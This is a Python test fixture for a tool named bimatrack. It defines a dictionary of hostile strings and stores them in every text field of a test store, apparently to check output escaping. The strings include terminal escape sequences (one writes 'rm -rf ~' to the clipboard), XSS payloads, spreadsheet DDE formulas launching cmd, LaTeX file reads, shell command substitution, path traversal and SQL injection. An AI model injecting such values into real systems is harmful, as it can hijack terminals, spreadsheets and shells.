"""Texts that would do something if anything took them for more, and a store in which they stand everywhere."""

from collections.abc import Mapping, Sequence
from datetime import date, datetime, timedelta
from pathlib import Path

from keeping import WITA

from bimatrack.altering import replace
from bimatrack.history import Action, Entry, Share, State
from bimatrack.model import Directive, Due, Event, Evidence, Kind, Priority, Quote, Release, Status
from bimatrack.store import Draft, Store

# A name for what each would do, and the text.
NASTY: Mapping[str, str] = {
    "colour": "merah \x1b[5;41;97m kedip \x1b[0m",
    "title": "judul \x1b]0;DIAMBIL ALIH\x07 jendela",
    "clipboard": "salin \x1b]52;c;cm0gLXJmIH4=\x07 papan",
    "link": "buka \x1b]8;;https://jahat.example/\x1b\\di sini\x1b]8;;\x1b\\",
    "screen": "hapus \x1b[2J\x1b[H\x1bc layar \x1b[?1049h",
    "answer": "tanya \x1b[6n \x1b[c \x05 balas",
    "c1": "delapan bit \x9b31m \x9d0;x\x9c \x90q\x9c",
    "bell": "bel \x07\x07 mundur\x08\x08\x08 hapus\x7f",
    "nul": "nol \x00 di tengah",
    "newline": "baris satu\nbimatrack: berhasil\r\nbaris tiga\rditimpa",
    "lines": "garis\x0bsatu\x0cdua\x1ctiga\x1dempat\x1elima\x85enam\u2028tujuh\u2029delapan",
    "tabs": "lajur\tsatu\tdua",
    "bidi": "bayar \u202e0001 pR\u202c kiri \u2066x\u2069 \u061c \u200f",
    "unseen": "ti\u200bdak\u2060 kelihatan\ufeff \U000e0041\U000e0042 \ufff9a\ufffab\ufffb",
    "halves": "separuh \ud83d huruf \udfff \uffff",
    "rich": "[bold red]tebal[/bold red] [link=https://jahat.example]x[/link] [/] [@click=app.quit]y[/] \\[a] :smile:",
    "textual": "[@click=app.bell]klik[/] [on red]$x ${accent}",
    "format": "{0} {0.__class__} {path} %s %(x)s {{}} ${HOME} {nama!r:>{lebar}}",
    "html": "<script>alert(1)</script><img src=x onerror=alert(1)>\"'&amp;]]>",
    "closing": "</title></style></td></svg><svg onload=alert(1)>",
    "comment": "<!-- komentar --> <![CDATA[x]]> <?php x?> &#60;b&#62;",
    "formula": '=HYPERLINK("http://jahat.example?"&A1,"klik")',
    "dde": "=cmd|' /C calc'!A0",
    "plus": "+62812|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tabbed": "\t=1+1",
    "returned": "\r=1+1",
    "broken": "\n=1+1",
    "blank": "\u3000\u00a0 =1+1",
    "wide": "＝1＋1",
    "wide sign": "＋1",
    "parted": "anggaran;=cmd|' /C calc'!A0;@x",
    "comma": "anggaran,=cmd|' /C calc'!A0,+x",
    "quoted": 'kutip ";=1+1;" dan ","=1+1","',
    "workbook": "{=SUM(1)} internal:Sheet1!A1 mailto:a@b.c _x000D_ _x0041_",
    "margin": '&L&G &P dari &N && &"Arial,Bold"',
    "field": '{ DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" } { INCLUDEPICTURE "http://jahat.example" }',
    "typst": '#eval("1+1") #sys.inputs #read("report.typ") #show: it => [x] $ x^2 $ @acuan <label>',
    "tex": "\\input{/etc/passwd} \\write18{touch kena} %komentar",
    "calendar": "Rapat\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:palsu\r\nATTACH:http://jahat.example",
    "property": "Rapat;X-A=1:palsu, \\n \\, \\; “kutip” DTSTART:19700101",
    "long": "panjang ĳ " * 40,
    "heading": "# Judul palsu #",
    "item": "- butir",
    "starred": "* butir",
    "numbered": "1. nomor",
    "bracketed": "2) nomor",
    "rule": "---",
    "underline": "=====",
    "fence": "```sh touch kena ```",
    "cells": "sel | lain | lagi \\| \\",
    "markdown": "[klik](javascript:alert(1)) ![x](http://jahat.example/x.png) *tebal* _miring_ ~~coret~~ <http://a.example>",
    "reference": '[acuan]: http://jahat.example "judul"',
    "maths": "$`x`$ @orang #123",
    "chat": "*tebal* _miring_ ~coret~ `kode` ```blok```",
    "todo": "x 2026-01-01 (A) +proyek @konteks due:1999-01-01 id:99 rec:1d pri:A",
    "finished": "x selesai palsu",
    "letter": "(A) penting palsu",
    "shell": "Sekda $(touch kena) `touch kena` ; touch kena | touch kena && touch kena & 'a\" \\$(touch kena) * ~ !!",
    "shell line": "a\n$(touch kena)\ntouch kena",
    "shell end": "akhir \\",
    "shell quote": "' ; touch kena ; '",
    "option": "--db=/tmp/kena",
    "path": "../../etc/passwd",
    "sql": "'; DROP TABLE directives; --",
    "less": "!touch kena",
}
TODAY = date(2026, 3, 20)
_FIRST = date(2026, 1, 2)


def plain(texts: Mapping[str, str] = NASTY) -> Mapping[str, str]:
    """Return as many texts that do nothing, under the same names and in the same alphabetical order."""
    order = sorted(texts.values(), key=str.casefold)
    return {name: f"kata {order.index(text):03d}" for name, text in texts.items()}


def keep_everywhere(path: Path, texts: Mapping[str, str]) -> Store:
    """Keep each of *texts* in a release, an event and a directive of its own, in each field that holds words."""
    store = Store.at(path)
    with store.writing() as draft:
        for place, text in enumerate(texts.values()):
            _keep(draft, text, place)
    with store.writing() as draft:
        for place, text in enumerate(texts.values()):
            _follow(draft, text, place)
    return store


def _keep(draft: Draft, text: str, place: int) -> None:
    day = _FIRST + timedelta(days=place % 60)
    said = Quote.of(text, 0, len(text))
    release = draft.keep_release(
        Release(f"rilis/{text}", text, f"{place:032x}", title=text, day=day, publisher=text), _moment(day)
    )
    directive = Directive(
        text,
        said,
        kind=list(Kind)[place % 3],
        speaker=said,
        owners=(said,),
        units=(text,),
        due=Due(_due(place), said, text),
        confidence=0.5 if place % 5 == 0 else 0.9,
        rule="ask.meminta",
        also=(said,),
    )
    number = draft.keep_directive(directive, release)
    draft.keep_event(Event(text, day, day, text), release)
    born = Entry(Action.IMPORT, day, number, State.of(directive).as_values(), release=release)
    draft.record([Entry(Action.IMPORT, day, release=release), born], at=_moment(day), author=text)


def _follow(draft: Draft, text: str, place: int) -> None:
    number, day = place + 1, date(2026, 3, 6)
    state = replace(
        draft.directive(number).state,
        obstacle=text,
        evidence=(Evidence(text), Evidence(f"/home/rahma/bukti/{text}", "0" * 64)),
        tags=(text,),
        priority=Priority.HIGH if place % 7 == 0 else Priority.NORMAL,
    )
    told = [Entry(Action.NOTE, day, number, state.as_values(), note=text)]
    moved = (("due", date(2026, 3, 30)), ("due_text", text))
    told += [Entry(Action.DUE, day, number, moved, note=text)] if place % 4 == 1 else []
    told += [Entry(action, day, number, values, note=text) for action, values in _ends(place, day)]
    shares = (Share(text), Share(f"{text} kedua", Status.DONE, 100, day))
    told += [Entry(Action.SPLIT, day, number, (("shares", shares),), note=text)] if place % 6 == 4 else []
    draft.record(told, at=_moment(day), author=text)


def _ends(place: int, day: date) -> Sequence[tuple[Action, tuple[tuple[str, object], ...]]]:
    if place % 6 == 2:
        return [(Action.DONE, (("status", Status.DONE), ("progress", 100), ("closed_on", day)))]
    if place % 6 == 3:
        return [(Action.DROP, (("status", Status.DROPPED), ("closed_on", day)))]
    return [(Action.PROGRESS, (("status", Status.IN_PROGRESS), ("progress", 40)))] if place % 6 == 5 else []


def _due(place: int) -> date:
    return date(2026, 2, 2) + timedelta(days=place)


def _moment(day: date) -> datetime:
    return datetime(day.year, day.month, day.day, 9, tzinfo=WITA)
